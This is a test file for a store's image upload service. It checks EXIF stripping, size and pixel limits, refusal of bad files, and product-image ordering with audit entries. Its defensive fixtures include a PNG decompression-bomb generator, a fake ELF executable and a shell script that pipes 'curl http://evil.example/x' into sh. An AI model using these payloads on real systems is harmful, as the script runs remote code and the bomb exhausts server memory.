import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { asc, eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Actor } from '#server/audit/audit.ts';
import { auditLog } from '#server/audit/schema.ts';
import { staff } from '#server/backoffice/schema.ts';
import { dataVersions } from '#server/cache/schema.ts';
import { type CatalogueImages, createCatalogueImages, mediaPath } from '#server/commerce/catalogue-images.ts';
import { productImages, products, variants } from '#server/commerce/schema-catalogue.ts';
import type { DatabaseHandle } from '#server/db/database.ts';
import { MediaError } from '#server/media/errors.ts';
import { MEDIA_ORIGINALS_DIR } from '#server/media/paths.ts';
import { createMediaUploads, type MediaUploads } from '#server/media/upload.ts';
import { catalogueProductId } from '../../seed/catalogue/index.ts';
import { openSeeded, testDatabaseTargets } from '../support/test-databases.ts';
import { mediaApp, mediaFixture } from './media-fixtures.ts';

/**
 * Issue 20, product image upload: what the media service accepts into its uploaded originals (type from the
 * bytes, size and pixel limits, re-encoded with no metadata) and refuses with a 400 that stores nothing; then the
 * back office's use cases on both databases: upload, order, the image a colour shows, remove, each one
 * transaction with its audit entry, and the file never left behind by a change that did not commit.
 */

/** A PNG whose header claims width x height over a few bytes of data: a decompression bomb. */
function pngBomb(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(Buffer.alloc(1024))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** The first bytes of an x86-64 ELF executable, as a file named photo.jpg would carry them. */
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
const SECRET = 'Shot at 12 Secret Lane';

const photo = (width: number, height: number, colour: string) =>
  sharp({ create: { width, height, channels: 3, background: colour } })
    .withExif({ IFD0: { Copyright: SECRET, ImageDescription: SECRET } })
    .jpeg({ quality: 90 })
    .toBuffer();

const logo = () =>
  sharp({ create: { width: 300, height: 200, channels: 4, background: { r: 200, g: 0, b: 0, alpha: 0.5 } } })
    .png()
    .toBuffer();

function uploadsIn(dir: string): string[] {
  try {
    return readdirSync(dir).filter((file) => file.startsWith('upload-'));
  } catch {
    return [];
  }
}

async function refusal(promise: Promise<unknown>) {
  const error = await promise.then(
    () => {
      throw new Error('expected a refusal');
    },
    (caught: unknown) => caught as { code?: string; status: number; message: string; detail?: string },
  );
  return { code: error.code, status: error.status, message: error.detail ?? error.message };
}

describe('the media service’s uploaded originals', () => {
  let dir: string;
  let uploads: MediaUploads;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'ridgeline-uploads-'));
    uploads = createMediaUploads({ dir });
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('re-encodes a JPEG with its EXIF dropped, stores it under a new id and the media service serves it', async () => {
    const input = await photo(1200, 1600, '#2f5d46');
    expect(input.includes(SECRET)).toBe(true);
    const prepared = await uploads.prepare(input);
    expect(prepared).toMatchObject({ format: 'jpeg', width: 1200, height: 1600 });
    const stored = await uploads.store(prepared);
    expect(stored.id).toMatch(/^upload-[0-9a-f]{18}$/);
    const file = readFileSync(join(dir, `${stored.id}.jpg`));
    expect(file.includes(SECRET)).toBe(false);
    expect(file.equals(input)).toBe(false);
    expect((await sharp(file).metadata()).exif).toBeUndefined();

    const fx = await mediaFixture();
    const app = mediaApp({ originalsDir: fx.originalsDir, cacheDir: fx.cacheDir, uploadsDir: dir });
    const image = await app.request(`/media/i/ridgeline/${stored.id}?w=300&fmt=png`);
    expect(image.status).toBe(200);
    expect((await sharp(Buffer.from(await image.arrayBuffer())).metadata()).width).toBe(300);
    // The drawn originals are still served; the uploads' manifest names sets and alt texts.
    expect((await app.request('/media/i/ridgeline/photo?w=100&fmt=png')).status).toBe(200);
    await uploads.publishProduct(7, [
      { id: stored.id, alt: 'A green board' },
      { id: 'photo', alt: '' },
    ]);
    const set = (await (await app.request(`/media/s/ridgeline/${stored.id}.json`)).json()) as {
      items: { name: string; alt?: string; width: number }[];
    };
    expect(set.items.map((item) => [item.name, item.alt ?? null, item.width])).toEqual([
      [stored.id, 'A green board', 1200],
      ['photo', null, 1600],
    ]);
  });

  it('keeps a PNG’s transparency and takes WebP and AVIF as WebP', async () => {
    const png = await uploads.prepare(await logo());
    expect(png).toMatchObject({ format: 'png', width: 300, height: 200 });
    expect((await sharp(png.data).metadata()).hasAlpha).toBe(true);
    const base = sharp({ create: { width: 64, height: 48, channels: 3, background: '#123456' } });
    expect(await uploads.prepare(await base.clone().webp().toBuffer())).toMatchObject({
      format: 'webp',
      width: 64,
    });
    expect(await uploads.prepare(await base.clone().avif().toBuffer())).toMatchObject({
      format: 'webp',
      height: 48,
    });
  });

  it('refuses a renamed executable, a script, a 20000×20000 image, an oversize file, an empty and a damaged one, storing nothing', async () => {
    const before = uploadsIn(dir);
    const small = createMediaUploads({ dir, limits: { maxBytes: 10_000, maxPixels: 40_000_000 } });
    const padded = Buffer.concat([await photo(400, 400, '#808080'), Buffer.alloc(20_000)]);
    const damaged = Buffer.concat([(await logo()).subarray(0, 60), Buffer.alloc(200, 7)]);
    const cases: [() => Promise<unknown>, RegExp][] = [
      [() => uploads.prepare(ELF), /not a JPEG, PNG, WebP or AVIF image/],
      [() => uploads.prepare(SCRIPT), /not a JPEG, PNG, WebP or AVIF image/],
      [() => uploads.prepare(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')), /not a JPEG/],
      [
        () => uploads.prepare(pngBomb(20_000, 20_000)),
        /20000×20000 \(400 megapixels\); images up to 40 megapixels/,
      ],
      [() => small.prepare(padded), /KB; images up to 10 KB are accepted/],
      [() => uploads.prepare(Buffer.alloc(0)), /empty/],
      [() => uploads.prepare(damaged), /damaged or incomplete/],
    ];
    for (const [attempt, message] of cases) {
      const refused = await refusal(attempt());
      expect(refused.status).toBe(400);
      expect(refused.message).toMatch(message);
    }
    expect(uploadsIn(dir)).toEqual(before);
  });

  it('refuses a file above 20 MB by default before reading it as an image', async () => {
    const big = Buffer.alloc(20 * 1024 * 1024 + 1);
    big.set([0xff, 0xd8, 0xff]);
    const error = await uploads.prepare(big).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(MediaError);
    expect((error as MediaError).detail).toBe('The file is 20.1 MB; images up to 20 MB are accepted.');
  });
});

describe.each(testDatabaseTargets)('product images on $name', (target) => {
  let handle: DatabaseHandle;
  let dir: string;
  let images: CatalogueImages;
  let actor: Actor;
  const productId = catalogueProductId('ridgeline-summit-trail-mens');
  const otherId = catalogueProductId('ridgeline-trail-pole-3');
  const errors: object[] = [];

  const rows = () =>
    handle.db
      .select()
      .from(productImages)
      .where(eq(productImages.productId, productId))
      .orderBy(asc(productImages.position));
  const audits = () => handle.db.select().from(auditLog).orderBy(asc(auditLog.id));
  const catalogueVersion = async () =>
    (await handle.db.select().from(dataVersions).where(eq(dataVersions.scope, 'catalogue')))[0]?.version ?? 0;

  beforeAll(async () => {
    handle = await openSeeded(target);
    dir = mkdtempSync(join(tmpdir(), 'ridgeline-product-images-'));
    images = createCatalogueImages(
      handle.db,
      createMediaUploads({ dir, originalsDir: MEDIA_ORIGINALS_DIR }),
      {
        error: (obj) => errors.push(obj),
      },
    );
    const [row] = await handle.db
      .insert(staff)
      .values({
        email: 'merch@ridgeline.test',
        name: 'Merch',
        role: 'merchandiser',
        passwordHash: 'x',
        mustChangePassword: false,
      })
      .returning({ id: staff.id });
    actor = { staffId: row!.id, email: 'merch@ridgeline.test' };
  }, 60_000);
  afterAll(async () => {
    await handle?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('uploads two images in order, each with its audit entry, and bumps the catalogue’s version', async () => {
    const version = await catalogueVersion();
    const first = await images.upload(actor, productId, {
      bytes: await photo(800, 1000, '#aa3322'),
      alt: 'Red, front',
    });
    const second = await images.upload(actor, productId, { bytes: await logo(), alt: '' });
    expect((await rows()).map((row) => [row.mediaId, row.position, row.format, row.width])).toEqual([
      [first.id, 0, 'jpeg', 800],
      [second.id, 1, 'png', 300],
    ]);
    expect(uploadsIn(dir).sort()).toEqual([`${first.id}.jpg`, `${second.id}.png`].sort());
    expect(await catalogueVersion()).toBeGreaterThan(version);
    const entries = (await audits()).filter((entry) => entry.action === 'product.image.upload');
    expect(entries.map((entry) => entry.after)).toEqual([
      { images: [first.id], image: expect.objectContaining({ id: first.id, width: 800, format: 'jpeg' }) },
      { images: [first.id, second.id], image: expect.objectContaining({ id: second.id, format: 'png' }) },
    ]);
    const manifest = await createMediaUploads({ dir }).readManifest();
    expect(manifest.sets[first.id]?.items.map((item) => item.id)).toEqual([first.id, second.id]);
    expect(manifest.sets[second.id]?.items.map((item) => item.id)).toEqual([second.id, first.id]);
    expect(manifest.assets[second.id]?.alt).toBe("Summit Trail Men's Snowshoe");
    const view = await images.view(productId);
    expect(view.images.map((image) => image.mediaId)).toEqual([first.id, second.id]);
    expect(view.colours.map((colour) => [colour.label, colour.drawnId])).toContainEqual([
      'Summit Red',
      'ridgeline-summit-trail-mens-summit-red',
    ]);
  });

  it('refuses a bad file, a missing product and a change that cannot commit, leaving no row, file or entry', async () => {
    const [rowsBefore, filesBefore, auditsBefore] = [await rows(), uploadsIn(dir), (await audits()).length];
    for (const bytes of [ELF, pngBomb(20_000, 20_000), Buffer.alloc(0)])
      expect(await refusal(images.upload(actor, productId, { bytes, alt: '' }))).toMatchObject({
        code: 'invalid',
        status: 400,
      });
    expect(await refusal(images.upload(actor, 999_999, { bytes: await logo(), alt: '' }))).toMatchObject({
      code: 'not-found',
      status: 404,
    });
    // No such staff member: the audit entry's insert fails, the transaction rolls back and the file is deleted.
    const ghost = { staffId: 987_654, email: 'ghost@ridgeline.test' };
    await expect(images.upload(ghost, productId, { bytes: await logo(), alt: '' })).rejects.toThrow();
    expect(await rows()).toEqual(rowsBefore);
    expect(uploadsIn(dir)).toEqual(filesBefore);
    expect((await audits()).length).toBe(auditsBefore);
  });

  it('moves an image up and down; the first cannot go up', async () => {
    const [first, second] = (await rows()).map((row) => row.mediaId);
    await images.move(actor, productId, second!, 'up');
    expect((await rows()).map((row) => row.mediaId)).toEqual([second, first]);
    expect(await refusal(images.move(actor, productId, second!, 'up'))).toMatchObject({ status: 409 });
    expect(await refusal(images.move(actor, productId, 'upload-nope', 'down'))).toMatchObject({
      status: 404,
    });
    await images.move(actor, productId, second!, 'down');
    expect((await rows()).map((row) => row.mediaId)).toEqual([first, second]);
    const moves = (await audits()).filter((entry) => entry.action === 'product.image.move');
    expect(moves.at(-1)).toMatchObject({
      before: { images: [second, first] },
      after: { images: [first, second] },
    });
  });

  it('shows an image for one colour on every variant of it, and the first colour’s on the product', async () => {
    const [first] = (await rows()).map((row) => row.mediaId);
    const colours = (await images.view(productId)).colours;
    const red = colours[0]!;
    const graphite = colours[1]!;
    await images.pick(actor, productId, graphite.id, first!);
    const variantRows = await handle.db.select().from(variants).where(eq(variants.productId, productId));
    const ofColour = (id: number) =>
      variantRows.filter((row) => row.optionValues.some((value) => value.id === id));
    expect(ofColour(graphite.id).length).toBeGreaterThan(0);
    expect(new Set(ofColour(graphite.id).map((row) => row.thumbnail))).toEqual(new Set([mediaPath(first!)]));
    expect(ofColour(red.id).every((row) => row.thumbnail !== mediaPath(first!))).toBe(true);
    const [product] = await handle.db.select().from(products).where(eq(products.id, productId));
    expect(product!.thumbnail).not.toBe(mediaPath(first!));
    const view = await images.view(productId);
    expect(view.colours[1]!.imageId).toBe(first);
    expect(view.images[0]!.shownBy).toEqual([graphite.label]);

    await images.pick(actor, productId, red.id, first!);
    const [after] = await handle.db.select().from(products).where(eq(products.id, productId));
    expect(after!.thumbnail).toBe(mediaPath(first!));
    expect((await audits()).at(-1)).toMatchObject({
      action: 'product.image.colour',
      before: { colour: red.label, image: 'ridgeline-summit-trail-mens-summit-red' },
      after: { colour: red.label, image: first },
    });
  });

  it('refuses another product’s image, an unknown colour and removing an image a colour shows', async () => {
    const [first, second] = (await rows()).map((row) => row.mediaId);
    const red = (await images.view(productId)).colours[0]!;
    const pole = await images.upload(actor, otherId, { bytes: await logo(), alt: 'Pole' });
    expect(await refusal(images.pick(actor, productId, red.id, pole.id))).toMatchObject({ status: 400 });
    expect(await refusal(images.pick(actor, productId, 424_242, second!))).toMatchObject({ status: 400 });
    expect(await refusal(images.remove(actor, otherId, first!))).toMatchObject({ status: 404 });
    const shown = await refusal(images.remove(actor, productId, first!));
    expect(shown.status).toBe(409);
    expect(shown.message).toMatch(/Summit Red and Graphite shows this image|Summit Red and Graphite/);
    expect(uploadsIn(dir)).toContain(`${first}.jpg`);
  });

  it('removes an image once no colour shows it: row, file and set go, the order closes up', async () => {
    const [first, second] = (await rows()).map((row) => row.mediaId);
    const colours = (await images.view(productId)).colours;
    for (const colour of colours.slice(0, 2)) await images.pick(actor, productId, colour.id, colour.drawnId!);
    await images.remove(actor, productId, first!);
    expect((await rows()).map((row) => [row.mediaId, row.position])).toEqual([[second, 0]]);
    expect(uploadsIn(dir)).not.toContain(`${first}.jpg`);
    const manifest = await createMediaUploads({ dir }).readManifest();
    expect(manifest.sets[first!]).toBeUndefined();
    expect(manifest.assets[first!]).toBeUndefined();
    expect(manifest.sets[second!]?.items.map((item) => item.id)).toEqual([second]);
    expect((await audits()).at(-1)).toMatchObject({
      action: 'product.image.remove',
      before: { images: [first, second] },
      after: { images: [second] },
    });
    expect(errors).toEqual([]);
  });
});
